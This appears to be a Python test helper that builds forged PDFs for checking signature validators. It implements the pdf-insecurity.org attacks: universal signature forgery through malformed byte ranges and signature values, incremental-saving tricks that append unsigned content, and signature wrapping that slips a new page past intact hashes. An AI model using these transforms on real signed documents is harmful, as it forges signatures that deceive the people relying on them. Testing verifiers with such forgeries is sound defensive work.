"""Universal forgery (USF), incremental saving (ISA) and signature wrapping (SWA): the attacks of pdf-insecurity.org.

Each takes a file whose last signature covers it whole, and gives one that still opens.
"""

import re
from collections.abc import Callable
from io import BytesIO

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.reader import PdfFileReader

_RANGE = re.compile(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]")


def _last(pdf: bytes) -> re.Match[bytes]:
    return list(_RANGE.finditer(pdf))[-1]


def range_of(pdf: bytes) -> tuple[int, int, int, int]:
    """The byte range of the file's last signature."""
    first, second, third, fourth = (int(number) for number in _last(pdf).groups())
    return first, second, third, fourth


def _with_range(pdf: bytes, told: bytes) -> bytes:
    found = _last(pdf)
    return pdf[: found.start()] + told.ljust(len(found.group())) + pdf[found.end() :]


def no_range(pdf: bytes) -> bytes:
    """USF: the signature does not say what it covers."""
    return _with_range(pdf, b"")


def null_range(pdf: bytes) -> bytes:
    return _with_range(pdf, b"/ByteRange null")


def empty_range(pdf: bytes) -> bytes:
    return _with_range(pdf, b"/ByteRange []")


def zero_range(pdf: bytes) -> bytes:
    return _with_range(pdf, b"/ByteRange [0 0 0 0]")


def negative_range(pdf: bytes) -> bytes:
    return _with_range(pdf, b"/ByteRange [0 -1 -1 -1]")


def range_beyond_the_file(pdf: bytes) -> bytes:
    """The sum fits the file's length, the second part begins late and ends nowhere."""
    _, first, second, rest = range_of(pdf)
    return _with_range(pdf, b"/ByteRange [0 %d %d %d]" % (first, second + 9, rest))


def short_range(pdf: bytes) -> bytes:
    """The last bytes are not covered."""
    _, first, second, rest = range_of(pdf)
    return _with_range(pdf, b"/ByteRange [0 %d %d %d]" % (first, second, rest - 20))


def range_from_the_middle(pdf: bytes) -> bytes:
    _, first, second, rest = range_of(pdf)
    return _with_range(pdf, b"/ByteRange [9 %d %d %d]" % (first - 9, second, rest))


def _with_value(pdf: bytes, value: bytes) -> bytes:
    _, first, second, _ = range_of(pdf)
    return pdf[:first] + value.ljust(second - first) + pdf[second:]


def null_value(pdf: bytes) -> bytes:
    """USF: the signature's value is nothing."""
    return _with_value(pdf, b"null")


def empty_value(pdf: bytes) -> bytes:
    return _with_value(pdf, b"<>")


def zero_value(pdf: bytes) -> bytes:
    _, first, second, _ = range_of(pdf)
    return _with_value(pdf, b"<" + b"0" * (second - first - 2) + b">")


def value_is_a_number(pdf: bytes) -> bytes:
    return _with_value(pdf, b"0")


def no_value(pdf: bytes) -> bytes:
    """The key before the value is called otherwise."""
    _, first, _, _ = range_of(pdf)
    at = pdf.rindex(b"/Contents", 0, first + 1)
    return pdf[:at] + b"/Kontents" + pdf[at + 9 :]


def bare_objects_behind(pdf: bytes) -> bytes:
    """ISA: a body without a table; careless readers rebuild the file and find the new page."""
    number = _content(pdf)[0]
    return pdf + b"%d 0 obj\n<< /Length 5 >>\nstream\nBT ET\nendstream\nendobj\n" % number


def body_and_bare_trailer_behind(pdf: bytes) -> bytes:
    """ISA: a trailer without a table, which points at the old one."""
    return bare_objects_behind(pdf) + b"trailer\n<< /Root %s >>\nstartxref\n%d\n%%%%EOF\n" % (_root(pdf), _table(pdf))


def table_that_hides_itself(pdf: bytes) -> bytes:
    """ISA: a whole new revision, and behind it the ending of the signed one once more."""
    number = _content(pdf)[0]
    body = b"%d 0 obj\n<< /Length 5 >>\nstream\nBT ET\nendstream\nendobj\n" % number
    table = b"xref\n0 0\n%d 1\n%010d 00000 n \n" % (number, len(pdf))
    trailer = b"trailer\n<< /Root %s /Size 999 /Prev %d >>\n" % (_root(pdf), _table(pdf))
    ending = b"startxref\n%d\n%%%%EOF\n"
    return pdf + body + table + trailer + ending % (len(pdf) + len(body)) + ending % _table(pdf)


def _table(pdf: bytes) -> int:
    return int(pdf[pdf.rindex(b"startxref") + 9 :].split()[0])


def _root(pdf: bytes) -> bytes:
    root = PdfFileReader(BytesIO(pdf)).trailer.raw_get("/Root")
    return b"%d %d R" % (root.idnum, root.generation)


def _content(pdf: bytes) -> tuple[int, int]:
    """The object that holds the first page's content."""
    page = PdfFileReader(BytesIO(pdf)).root["/Pages"]["/Kids"][0]
    held = page.raw_get("/Contents")
    held = held.get_object() if isinstance(held.get_object(), generic.ArrayObject) else [held]
    reference = held.raw_get(0) if isinstance(held, generic.ArrayObject) else held[0]
    return reference.idnum, reference.generation


def moved(pdf: bytes) -> bytes:
    """SWA: the second signed part moves to the end; into the gap goes a new page, with a signature object whose range
    names the new place. Every signed byte is still there and hashes as it did."""
    _, first, second, _ = range_of(pdf)
    head, value, tail = pdf[:first], pdf[first:second], pdf[second:]
    number = _content(pdf)[0]
    holder = int(re.findall(rb"(\d+) 0 obj", pdf[: _last(pdf).start()])[-1])
    reader = PdfFileReader(BytesIO(pdf))
    last = {ref.idnum: reader.xrefs[ref] for ref in reader.xrefs.explicit_refs_in_revision(reader.total_revisions - 1)}
    table_at = _table(pdf)
    start = table_at + 20_000 + len(value)
    page = b"%d 0 obj\n<< /Length 5 >>\nstream\nBT ET\nendstream\nendobj\n" % number
    signature = b"%d 0 obj\n<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached " % holder
    signature += b"/ByteRange [0 %d %d %d] /Contents " % (first, start, len(tail)) + value + b" >>\nendobj\n"
    offsets = {n: at + (start - second if at > first else 0) for n, at in last.items() if isinstance(at, int)}
    body = page + signature
    body_at = table_at + 2_000 if table_at > second else second
    offsets |= {number: body_at + 2_500, holder: body_at + 2_500 + len(page)}
    rows = b"".join(b"%d 1\n%010d 00000 n \n" % (n, at) for n, at in sorted(offsets.items()))
    trailer = b"trailer\n<< /Root %s /Size 999 /Prev %d >>\n" % (_root(pdf), _previous(reader))
    table = b"xref\n" + rows + trailer
    made = (head + value).ljust(table_at) + table
    made = made.ljust(body_at + 2_500) + body
    return made.ljust(start) + tail


def _previous(reader: PdfFileReader) -> int:
    return int(reader.trailer["/Prev"])


WRAPPING: list[Callable[[bytes], bytes]] = [
    *(no_range, null_range, empty_range, zero_range, negative_range, range_beyond_the_file, short_range),
    *(range_from_the_middle, null_value, empty_value, zero_value, value_is_a_number, no_value),
    *(bare_objects_behind, body_and_bare_trailer_behind, table_that_hides_itself, moved),
]
